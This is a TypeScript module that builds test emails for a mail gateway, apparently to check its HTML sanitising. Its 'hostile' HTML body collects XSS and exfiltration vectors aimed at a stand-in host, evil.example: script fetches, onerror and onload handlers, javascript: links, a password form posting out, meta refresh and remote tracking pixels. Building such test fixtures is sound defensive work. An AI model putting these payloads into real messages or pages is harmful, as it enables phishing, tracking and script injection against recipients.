/** Mails to try a gateway with: what most people send, what is large, and what is meant to hurt. */
import { formatDate } from '../mail/date.ts';
import { encodeText } from '../mime/encoded-word.ts';
import { encodeTransfer } from '../mime/transfer-encoding.ts';
import type { Random } from '../plugin/ports.ts';

/** What the page offers. */
export const TEST_MAIL_KINDS = ['plain', 'html', 'large', 'hostile'] as const;
export type TestMailKind = (typeof TEST_MAIL_KINDS)[number];

export interface TestMailParts {
  readonly kind: TestMailKind;
  readonly from: string;
  readonly to: readonly string[];
  readonly subject: string;
  readonly text: string;
}

/** In octets, of the file in a large mail. */
const LARGE = 3 * 1024 * 1024;
/** A red square with a hole: 16 by 16, PNG. */
const PICTURE =
  'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQAQMAAAAlPW0iAAAABlBMVEXCQQz/7dV181cmAAAAEUlEQVR42mNgQAXsD9ARKgAAf5UFaxXbfH0AAAAASUVORK5CYII=';

/** Makes one, with line ends of SMTP. */
export function testMail(
  { kind, from, to, subject, text }: TestMailParts,
  { now, random }: { readonly now: Date; readonly random: Random },
): Buffer {
  const boundary = (name: string) => `=_${name}_${random.bytes(9).toString('hex')}`;
  const fields = [
    `Date: ${formatDate(now)}`,
    `From: ${from === '' ? 'MAILER-DAEMON@localhost' : from}`,
    `To: ${to.join(', ')}`,
    `Subject: ${encodeText(subject.replaceAll(/[\r\n]+/g, ' '))}`,
    `Message-ID: <${random.bytes(12).toString('hex')}@localhost>`,
    'MIME-Version: 1.0',
  ];
  return Buffer.from(`${[...fields, ...bodyOf(kind, text, boundary)].join('\r\n')}\r\n`);
}

function bodyOf(kind: TestMailKind, text: string, boundary: (name: string) => string): readonly string[] {
  switch (kind) {
    case 'plain':
      return textPart('plain', text);
    case 'html':
      return multipart('mixed', boundary('mixed'), [
        multipart('alternative', boundary('alternative'), [
          textPart('plain', text),
          multipart('related', boundary('related'), [
            textPart('html', htmlOf(text)),
            file('image/png', 'square.png', Buffer.from(PICTURE, 'base64'), 'square@localhost'),
          ]),
        ]),
        file('text/csv', 'figures.csv', Buffer.from('month,mails\r\nOctober,1204\r\nNovember,1377\r\n')),
      ]);
    case 'large':
      return multipart('mixed', boundary('mixed'), [
        textPart('plain', text),
        file('application/octet-stream', 'large.bin', Buffer.alloc(LARGE, 'mailframe ')),
      ]);
    case 'hostile':
      return multipart('alternative', boundary('alternative'), [textPart('plain', text), textPart('html', HOSTILE)]);
  }
}

function textPart(subtype: 'plain' | 'html', text: string): readonly string[] {
  const octets = Buffer.from(`${text.replaceAll(/\r?\n/g, '\r\n')}\r\n`);
  return [
    `Content-Type: text/${subtype}; charset=utf-8`,
    'Content-Transfer-Encoding: quoted-printable',
    '',
    encodeTransfer(octets, 'quoted-printable').toString('latin1').trimEnd(),
  ];
}

function file(type: string, name: string, octets: Buffer, contentId?: string): readonly string[] {
  return [
    `Content-Type: ${type}; name="${name}"`,
    'Content-Transfer-Encoding: base64',
    ...(contentId === undefined
      ? [`Content-Disposition: attachment; filename="${name}"`]
      : [`Content-Disposition: inline; filename="${name}"`, `Content-ID: <${contentId}>`]),
    '',
    encodeTransfer(octets, 'base64').toString('latin1').trimEnd(),
  ];
}

function multipart(subtype: string, boundary: string, parts: readonly (readonly string[])[]): readonly string[] {
  return [
    `Content-Type: multipart/${subtype}; boundary="${boundary}"`,
    '',
    ...parts.flatMap(part => [`--${boundary}`, ...part]),
    `--${boundary}--`,
  ];
}

function htmlOf(text: string): string {
  const escaped = text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll(/\r?\n/g, '<br>');
  return [
    '<div style="max-width: 34em; margin: 0 auto; font-family: Georgia, serif">',
    '<h2 style="color: #7c2d12; border-bottom: 2px solid #fed7aa; padding-bottom: .3em">A letter in HTML</h2>',
    `<p><img src="cid:square@localhost" alt="a red square" width="16" height="16"> ${escaped}</p>`,
    '<p>A picture of the web: <img src="https://pictures.example/remote.png" alt="remote" width="80" height="40"></p>',
    '<p>And <a href="https://www.example.com/reading">a link</a>, which leads nowhere here.</p>',
    '</div>',
  ].join('\n');
}

/** Each line tries to run something, to fetch something, or to lead somewhere. */
const HOSTILE = [
  '<html><head><title>Hostile</title>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">',
  '<link rel="stylesheet" href="https://evil.example/style.css"><link rel="dns-prefetch" href="//prefetch.evil.example">',
  '<link rel="preconnect" href="https://preconnect.evil.example"><link rel="prefetch" href="https://evil.example/next">',
  '<style>@import url("https://evil.example/import.css"); body { background: url(https://evil.example/background.png) }',
  '@font-face { font-family: evil; src: url(https://evil.example/font.woff2) } p { font-family: evil }</style></head>',
  '<body onload="top.location = \'https://evil.example/onload\'" background="https://evil.example/body.png">',
  '<script>document.title = "pwned"; top.pwned = true; fetch("https://evil.example/script")</script>',
  '<img src="https://evil.example/pixel.png" srcset="https://evil.example/2x.png 2x" onerror="top.pwned = true">',
  '<img src=x onerror="parent.document.body.innerHTML = \'pwned\'"><svg onload="top.pwned = true">',
  '<image href="https://evil.example/svg.png" /><use href="https://evil.example/use.svg#a" /></svg>',
  '<iframe src="https://evil.example/frame" srcdoc="<script>top.pwned = true</script>"></iframe>',
  '<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
  '<form action="https://evil.example/form" method="post"><input name="password" autofocus onfocus="top.pwned = true">',
  '<button formaction="https://evil.example/button">Log in</button></form>',
  '<video src="https://evil.example/video.mp4" poster="https://evil.example/poster.png" autoplay></video>',
  '<p style="background-image: url(https://evil.example/inline.png)">This mail means harm, and can do none.</p>',
  '<a href="https://evil.example/top" target="_top" id="top-link">A link out of the frame</a>',
  '<a href="javascript:top.pwned = true" id="script-link">A link that is a script</a>',
  '<a href="https://evil.example/ping" ping="https://evil.example/pinged" id="ping-link">A link that pings</a>',
  '</body></html>',
].join('\n');
